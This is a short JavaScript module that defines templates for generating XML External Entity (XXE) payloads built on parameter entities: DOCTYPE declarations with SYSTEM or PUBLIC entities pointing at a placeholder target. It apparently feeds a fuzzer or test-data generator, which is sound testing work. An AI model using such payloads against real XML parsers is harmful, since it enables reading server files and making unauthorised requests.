import { xxeGenerator } from '../xxe-generator.js';

/** Parameter entities: the document type itself is written elsewhere. */
export const parameterEntity = xxeGenerator({
  name: 'parameter-entity',
  rules: {
    start: [
      '{declaration}{break}<!DOCTYPE {root:r} [<!ENTITY % {entity:e} SYSTEM {q:q}{target}{q:q}>{break}%{entity:e};]><{root:r}/>',
      '{declaration}{break}<!DOCTYPE {root:r} [{break}<!ENTITY % {entity:e} SYSTEM {q:q}{target}{q:q}> %{entity:e}; %{letters};{break}]>{break}<{root:r}>{letters}</{root:r}>',
      '{declaration}<!DOCTYPE {root:r} [<!ENTITY % {entity:e} PUBLIC "{letters}" {q:q}{target}{q:q}>%{entity:e};]><{root:r}><{child:c}>{number}</{child:c}></{root:r}>',
      '{declaration}{break}<!DOCTYPE {root:r} [<!ENTITY % {letters:a} "<!ENTITY {entity:e} SYSTEM \'{target}\'>">%{letters:a};]><{root:r}>&{entity:e};</{root:r}>',
    ],
  },
});
